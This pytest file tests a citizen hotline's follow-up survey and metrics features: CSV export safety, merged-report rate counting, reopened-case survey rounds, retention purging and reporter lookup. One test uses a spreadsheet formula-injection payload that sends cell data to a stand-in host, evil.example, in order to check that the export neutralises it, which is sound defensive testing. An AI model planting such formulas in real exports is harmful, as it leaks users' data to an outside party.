"""回访 and 三率 defects found in QA: spreadsheet formulas in the CSV export, merged reporters' answers left
out of the 三率, a survey round that stayed open after the case was reopened, merged reports and survey
comments left behind by the retention purge, and 409 instead of 404 for a call logged for a stranger."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import pytest
from aiohttp.test_utils import TestClient

from hotline.app import create_app
from hotline.appkeys import ATTACHMENTS, DEDUP, DISPATCHER, INTAKE, SETTINGS, STORE, SURVEYS
from hotline.records import InboundMessage
from hotline.redis_server import EmbeddedRedis
from hotline.retention import Retention
from hotline.status import Status
from hotline.store.surveys import ANSWERED, FOLLOWUP, MAIN
from hotline.surveys import SUPERSEDED
from tests.console_support import staff_login
from tests.dispatch_support import CLASSIFICATION, Open311Receiver, post_event, wait_for
from tests.test_callbacks_e2e import callback_settings, dispatch_and_resolve

MAIN_PHONE = "13912345678"


@pytest.fixture
async def app_client(aiohttp_client: Any, redis_server: EmbeddedRedis, tmp_path: Path, key_prefix: str,
                     receiver: Open311Receiver) -> TestClient:
    # Surveys due at once, the tests drive run_due; with merging on.
    settings = callback_settings(redis_server, tmp_path, key_prefix, receiver.url, merging=True)
    return await aiohttp_client(create_app(settings))


REPORTS = (("13700002222", "幸福小区三号楼门口污水冒出来了，没法走路"),
           ("13600003333", "幸福小区3号楼下面的下水道又堵了，臭气熏天"))


async def merged_case(client: TestClient, reports: int = 1) -> tuple[str, list[str]]:
    """A web case and ``reports`` web reports merged into it (by dedup on its own, else by a call-taker)."""
    main = await client.app[INTAKE].submit(InboundMessage(
        channel="web", sender=MAIN_PHONE, contact=MAIN_PHONE, text="幸福小区3号楼下水道堵塞，污水漫到路上",
        address="幸福小区3号楼"))
    ids = []
    for phone, text in REPORTS[:reports]:
        report = await client.app[INTAKE].submit(InboundMessage(
            channel="web", sender=phone, contact=phone, text=text, address="幸福小区3号楼"))
        if report.case.status != Status.MERGED:
            await client.app[DEDUP].confirm_merge(report.case.id, main.case.id, "staff:ct1")
        ids.append(report.case.id)
    case = await client.app[STORE].get_case(main.case.id)
    assert [r.report_id for r in case.reports] == ids
    return main.case.id, ids


async def surveyed(client: TestClient, receiver: Open311Receiver, case_id: str) -> None:
    """Resolved by the unit, every reporter on the follow-up worklist (web reporters get a call)."""
    service = client.app[SURVEYS]
    case = await dispatch_and_resolve(client, receiver, case_id, "已疏通。")
    await service.schedule(case)
    await service.run_due()
    survey = await service.surveys.get(case_id)
    assert survey is not None and {r.state for r in survey.recipients.values()} == {FOLLOWUP}


async def merged_and_surveyed(client: TestClient, receiver: Open311Receiver) -> tuple[str, str]:
    """A case with one merged report, resolved, both reporters on the follow-up worklist: the two ids."""
    case_id, (d,) = await merged_case(client)
    await surveyed(client, receiver, case_id)
    return case_id, d


async def link_token(client: TestClient, case_id: str) -> str:
    """The token of the case's own reporter's signed survey link in the current round."""
    service = client.app[SURVEYS]
    survey = await service.surveys.get(case_id)
    assert survey is not None
    return service.link(case_id, MAIN, survey.round).split("/survey/", 1)[1]


def answer(resolved: bool, satisfaction: str, comment: str = "") -> dict[str, Any]:
    return {"outcome": "answered", "resolved": resolved, "satisfaction": satisfaction, "comment": comment}


# 1. CSV export: a text cell never runs as a spreadsheet formula -------------------------------------

async def test_rates_csv_neutralises_a_formula_typed_as_street(app_client: TestClient,
                                                               receiver: Open311Receiver) -> None:
    street = '=HYPERLINK("http://evil.example/?d="&A2,"详情")'
    result = await app_client.app[INTAKE].submit(InboundMessage(
        channel="web", sender="13800001111", contact="13800001111", text="建设路路灯坏了一个星期，晚上一片漆黑"))
    # The call-taker types the street (属地) by hand when confirming.
    await app_client.app[DISPATCHER].confirm(result.case.id, {**CLASSIFICATION, "street": street}, "staff:zhang")
    await wait_for(lambda: any(a.case_id == result.case.id for a in receiver.orders))
    async with staff_login(app_client, "supervisor") as boss:
        resp = await boss.get("/api/v1/metrics/rates?by=street&format=csv")
        assert resp.status == 200
        text = (await resp.read()).decode("utf-8-sig")
        as_json = await (await boss.get("/api/v1/metrics/rates?by=street")).json()
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0][:2] == ["排名", "单位"]
    assert [r[1] for r in rows[1:]] == ["'" + street]
    assert rows[1][0] == "1" and rows[1][2] == "1"  # numbers stay numbers
    assert [i["key"] for i in as_json["items"]] == [street]  # only the spreadsheet file is changed


# 2. 三率: every reporter who answered is one evaluation ------------------------------------------------

async def test_rates_count_each_merged_reporters_answer(app_client: TestClient, receiver: Open311Receiver) -> None:
    case_id, (d, e) = await merged_case(app_client, reports=2)
    await surveyed(app_client, receiver, case_id)
    async with staff_login(app_client, "follow_up") as agent, staff_login(app_client, "supervisor") as boss:
        for rid, body in ((MAIN, answer(True, "satisfied")), (d, answer(True, "basic")),
                          (e, answer(False, "unsatisfied", "还是堵"))):
            resp = await agent.post_json(f"/api/v1/callbacks/{case_id}/{rid}", body)
            assert resp.status == 200, await resp.text()
        rates = await (await boss.get("/api/v1/metrics/rates?by=department")).json()
    dept = next(r for r in rates["items"] if r["key"] == "城乡建设局")
    # One case, accepted in time (per case); three evaluations (per reporter).
    assert (dept["cases"], dept["dispatched"], dept["responded"]) == (1, 1, 1)
    assert (dept["surveyed"], dept["resolved"], dept["satisfied"], dept["basic"], dept["unsatisfied"]) == (
        3, 2, 1, 1, 1)
    assert dept["resolution_rate"] == pytest.approx(2 / 3, abs=1e-4)
    assert dept["satisfaction_rate"] == pytest.approx((1 + 0.8) / 3, abs=1e-4)
    assert rates["total"]["surveyed"] == 3


# 3. a reopened case ends the round for those who had not answered --------------------------------

async def test_reopening_closes_the_round_for_the_other_reporters(app_client: TestClient,
                                                                  receiver: Open311Receiver) -> None:
    client, store, service = app_client, app_client.app[STORE], app_client.app[SURVEYS]
    case_id, d = await merged_and_surveyed(client, receiver)
    token = await link_token(client, case_id)
    async with staff_login(client, "follow_up") as agent:
        reopen = await agent.post_json(f"/api/v1/callbacks/{case_id}/{d}", answer(False, "unsatisfied", "根本没修"))
        assert reopen.status == 200 and "重新办理" in (await reopen.json())["message"]
        await wait_for(lambda: any(a.key == f"{case_id}-R2" for a in receiver.orders))
        assert (await store.get_case(case_id)).status == Status.DISPATCHED

        # The case's own reporter is no longer asked to rate a result the case no longer has ...
        page = await client.post("/status", data={"case_id": case_id, "last4": MAIN_PHONE[-4:]})
        assert page.status == 200 and 'id="survey-invite"' not in await page.text()
        items = (await (await agent.get("/api/v1/callbacks")).json())["items"]
        assert all(i["case_id"] != case_id for i in items)
        # ... and an answer by any way is refused with the reason.
        form = await client.get(f"/survey/{token}")
        assert form.status == 409 and "已重新办理" in await form.text()
        assert 'id="survey-form"' not in await form.text()
        web = await client.post(f"/survey/{token}", data={"resolved": "yes", "satisfaction": "satisfied"})
        assert web.status == 409 and "已重新办理" in await web.text()
        late = await agent.post_json(f"/api/v1/callbacks/{case_id}/{MAIN}", answer(True, "satisfied"))
        assert late.status == 409
        error = (await late.json())["error"]
        assert error["code"] == "case_reopened" and "再次回访" in error["message"]
        assert (await agent.post_json(f"/api/v1/callbacks/{case_id}/{MAIN}", {"outcome": "no_answer"})).status == 409
    case = await store.get_case(case_id)
    assert "resolved" not in case.survey and case.survey["reports"][d]["resolved"] is False
    assert case.status == Status.DISPATCHED and receiver.orders_per_case()[case_id] == 2
    survey = await service.surveys.get(case_id)
    assert survey is not None
    assert (survey.recipients[MAIN].state, survey.recipients[d].state) == (SUPERSEDED, ANSWERED)
    closed = [e for e in await store.events(case_id) if e.action == "survey_withdrawn"]
    assert [(e.data["report_id"], e.data["reason"]) for e in closed] == [("", "reopened")]

    # The unit resolves the re-handling order: a new round for everybody, the citizen's link works again.
    order = case.dispatch["order_id"]
    assert order == f"{case_id}-R2"

    async def delivered() -> bool:
        return (await store.get_case(case_id)).dispatch.get("state") == "delivered"

    await wait_for(delivered)
    for seq, etype, extra in ((1, "accepted", {}), (2, "resolved", {"reply": "已更换管道。"})):
        status, body = await post_event(client, {"event_id": f"e2-{case_id}-{etype}", "case_id": case_id,
                                                 "type": etype, "order_id": order, "seq": seq, **extra})
        assert status == 200, body
    await service.schedule(await store.get_case(case_id))  # (the feed worker may have been first)
    await service.run_due()
    survey = await service.surveys.get(case_id)
    assert survey is not None and survey.round == 2
    assert {rid: r.state for rid, r in survey.recipients.items()} == {MAIN: FOLLOWUP, d: FOLLOWUP}
    assert await service.pending_link(case_id)
    token = service.link(case_id, MAIN, survey.round).split("/survey/", 1)[1]
    done = await client.post(f"/survey/{token}", data={"resolved": "yes", "satisfaction": "satisfied"})
    assert done.status == 200 and "感谢您的评价" in await done.text()
    assert (await store.get_case(case_id)).status == Status.CLOSED


# 4. retention: merged reports and survey comments ----------------------------------------------------

async def test_purge_takes_merged_reports_and_masks_survey_comments(app_client: TestClient,
                                                                   receiver: Open311Receiver) -> None:
    client, store = app_client, app_client.app[STORE]
    case_id, d = await merged_and_surveyed(client, receiver)
    comment = "有事打我电话13944440001，身份证110101199003077777"
    async with staff_login(client, "follow_up") as agent:
        for rid in (d, MAIN):
            resp = await agent.post_json(f"/api/v1/callbacks/{case_id}/{rid}", answer(True, "satisfied", comment))
            assert resp.status == 200, await resp.text()
    assert (await store.get_case(case_id)).status == Status.CLOSED
    # A merged report of a case still being worked on keeps everything.
    open_main = await client.app[INTAKE].submit(InboundMessage(
        channel="web", sender="13500005555", contact="13500005555", text="人民公园东门的长椅坏了好几张"))
    open_report = await client.app[INTAKE].submit(InboundMessage(
        channel="web", sender="13500006666", contact="13500006666", text="人民公园东门长椅坏了没人修"))
    if open_report.case.status != Status.MERGED:
        await client.app[DEDUP].confirm_merge(open_report.case.id, open_main.case.id, "staff:ct1")
    lookup = await client.get(f"/api/v1/cases/{d}", params={"last4": REPORTS[0][0][-4:]})
    assert lookup.status == 200  # the report's own citizen, by their digits, before the purge

    retention = Retention(store, client.app[SETTINGS].data_dir, client.app[ATTACHMENTS])
    assert sorted((await retention.purge(0, dry_run=True)).purged) == sorted([case_id, d])
    assert sorted((await retention.purge(0)).purged) == sorted([case_id, d])

    report = await store.get_case(d)
    assert (report.contact, report.sender, report.status) == ("", "", Status.MERGED)
    assert [e.actor for e in await store.events(d) if e.action == "personal_data_purged"] == ["system:retention"]
    lookup = await client.get(f"/api/v1/cases/{d}", params={"last4": REPORTS[0][0][-4:]})
    assert lookup.status == 404
    master = await store.get_case(case_id)
    for stored in (master.survey, master.survey["reports"][d]):
        assert "13944440001" not in stored["comment"] and "110101199003077777" not in stored["comment"]
        assert "有事打我电话" in stored["comment"] and (stored["resolved"], stored["satisfaction"]) == (
            True, "satisfied")
    kept = await store.get_case(open_report.case.id)
    assert kept.status == Status.MERGED and kept.contact == "13500006666"
    assert (await retention.purge(0)).purged == []


# 5. a call logged for someone who was never a reporter of the case -----------------------------------

async def test_call_for_a_stranger_is_not_found(app_client: TestClient, receiver: Open311Receiver) -> None:
    case_id, (d,) = await merged_case(app_client)
    await surveyed(app_client, receiver, case_id)
    stranger = "20200101-000001"
    async with staff_login(app_client, "follow_up") as agent:
        for body in ({"outcome": "no_answer"}, {"outcome": "wrong_number"}, answer(True, "satisfied")):
            resp = await agent.post_json(f"/api/v1/callbacks/{case_id}/{stranger}", body)
            assert resp.status == 404, (body, resp.status)
            assert (await resp.json())["error"]["code"] == "not_found"
        assert (await agent.post_json(f"/api/v1/callbacks/{case_id}/{d}", {"outcome": "no_answer"})).status == 200
    actions = [e.action for e in await app_client.app[STORE].events(case_id)]
    assert "survey_withdrawn" not in actions and actions.count("callback_call") == 1
